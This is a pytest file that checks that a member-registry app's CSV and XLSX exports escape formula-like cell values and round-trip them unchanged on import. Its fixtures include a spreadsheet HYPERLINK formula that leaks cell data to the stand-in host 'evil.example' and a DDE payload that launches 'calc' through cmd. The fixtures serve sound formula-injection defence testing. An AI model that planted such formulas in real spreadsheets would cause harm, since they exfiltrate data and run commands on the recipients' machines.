import io

import openpyxl
import pytest
from import_export.formats.base_formats import CSV, XLSX

from common.spreadsheets import spreadsheet_cell, spreadsheet_cell_read
from members.models import Representative
from members.resources import RepresentativeResource
from tests.factories import RepresentativeFactory

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'


@pytest.mark.parametrize(
    "value", ["=1+1", "+SUM(A1)", "-2+3*cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "'=1", "''+x"]
)
def test_formula_cells_are_escaped_and_read_back_unchanged(value):
    written = spreadsheet_cell(value)

    assert written.startswith("'")
    assert spreadsheet_cell_read(written) == value


@pytest.mark.parametrize("value", ["+49 2392 123456", "-5", "Werdohl", "", 17, None, "'Zitat"])
def test_ordinary_cells_stay_as_they_are(value):
    assert spreadsheet_cell(value) == value
    assert spreadsheet_cell_read(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", [CSV(), XLSX()], ids=["csv", "xlsx"])
def test_admin_export_escapes_formulae_and_imports_back(file_format):
    representative = RepresentativeFactory(last_name=HOSTILE_NAME, first_name="@Eva")

    exported = file_format.export_data(RepresentativeResource().export())

    if isinstance(file_format, XLSX):
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        assert f"'{HOSTILE_NAME}" in [cell.value for cell in cells]
    else:
        assert f"'{HOSTILE_NAME}".replace('"', '""') in exported
    Representative.objects.filter(pk=representative.pk).update(last_name="geändert")

    dataset = file_format.create_dataset(exported)
    result = RepresentativeResource().import_data(dataset, dry_run=False)

    assert not result.has_errors() and not result.has_validation_errors()
    representative.refresh_from_db()
    assert representative.last_name == HOSTILE_NAME
    assert representative.first_name == "@Eva"
